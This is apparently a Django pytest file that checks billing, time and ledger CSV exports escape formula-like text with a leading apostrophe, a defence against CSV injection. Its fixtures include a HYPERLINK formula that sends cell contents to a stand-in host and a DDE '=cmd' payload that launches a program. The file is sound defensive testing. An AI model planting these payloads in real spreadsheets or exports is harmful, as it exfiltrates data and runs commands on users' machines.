"""CSV exports never hand a spreadsheet a formula: a text cell that starts with =, +, -, @, a tab or a carriage
return is written with a leading apostrophe (shown as text, never evaluated); numbers are written as they are, a
negative amount included. Each export is checked with a hostile note or name."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.db import transaction

from billing.services import invoice_draft_for_contract, invoice_issue
from ledger.services import account_create
from psa.core.exports import csv_cell
from tests.billing.factories import (
    approved_entry,
    make_account,
    make_consultant,
    make_periods,
    milestone_contract,
    tm_contract,
)
from tests.ledger.factories import post, spec

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd"]


def _rows(response) -> list[list[str]]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode(), newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_cell_that_starts_like_a_formula_is_written_as_text(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value, written",
    [
        (Decimal("-12.50"), "-12.50"),
        ("-12.50", "-12.50"),
        ("+3", "+3"),
        (-7, "-7"),
        ("1234.5678", "1234.5678"),
        ("Plain note", "Plain note"),
        ("", ""),
    ],
)
def test_numbers_and_plain_text_are_written_as_they_are(value, written):
    assert str(csv_cell(value)) == written


@pytest.mark.parametrize("note", HOSTILE)
def test_the_time_export_writes_a_hostile_note_as_text(client_as, note):
    _contract, line = tm_contract()
    approved_entry(line, make_consultant(), date(2026, 3, 3), "2.5", "100", note=note)
    rows = _rows(client_as("finance").get("/exports/time.csv?start=2026-03-01&end=2026-03-31"))
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["note"] == "'" + note
    assert record["hours"] == "2.50" and record["bill_amount"] == "250.00"


def test_the_invoice_export_writes_a_hostile_client_name_as_text(client_as, make_user):
    make_periods(start=date(2026, 1, 1), through=date(2026, 12, 31))
    account = make_account(name="=cmd|' /C calc'!A0", legal_name="@SUM(1+1) GmbH")
    contract, _line, _ms = milestone_contract("1000.00", account=account, on=date(2026, 2, 10))
    with transaction.atomic():
        draft = invoice_draft_for_contract(contract=contract, period_end=date(2026, 2, 28))
    invoice_issue(invoice_id=draft.pk, by=make_user("finance"), on=date(2026, 3, 5))
    rows = _rows(client_as("finance").get("/exports/invoices.csv?start=2026-03-01&end=2026-03-31"))
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["account"] == "'=cmd|' /C calc'!A0"
    assert record["buyer_name"] == "'@SUM(1+1) GmbH"
    assert record["net_total"] == "1000.00"


def _hostile_expense(make_user) -> None:
    """An expense account named like a formula, and a posting to it that makes the net income negative."""
    make_periods(start=date(2026, 1, 1), through=date(2026, 12, 31))
    account_create(by=make_user("finance"), code="6999", name="-1+cmd", type="expense")
    post(spec(("6999", "100.00", ""), ("1000", "", "100.00"), on=date(2026, 3, 15), memo="=1+2 memo"))


def test_the_ledger_csv_export_writes_a_hostile_memo_and_account_name_as_text(client_as, make_user):
    _hostile_expense(make_user)
    response = client_as("finance").get("/ledger/export/?format=csv&start=2026-03-01&end=2026-03-31")
    rows = _rows(response)
    (line,) = [r for r in rows[1:] if r[5] == "6999"]
    assert "'=1+2 memo" in line and "'-1+cmd" in line and "100.00" in line


def test_the_ledger_report_csv_writes_a_hostile_account_name_as_text_and_a_negative_net_as_a_number(
    client_as, make_user
):
    _hostile_expense(make_user)
    rows = _rows(client_as("finance").get("/ledger/reports/pnl/?format=csv&start=2026-01-01&end=2026-12-31"))
    (expense,) = [r for r in rows if r[1] == "6999"]
    assert expense[2] == "'-1+cmd" and expense[-1] == "100.00"
    assert rows[-1][0] == "net" and rows[-1][-1] == "-100.00"
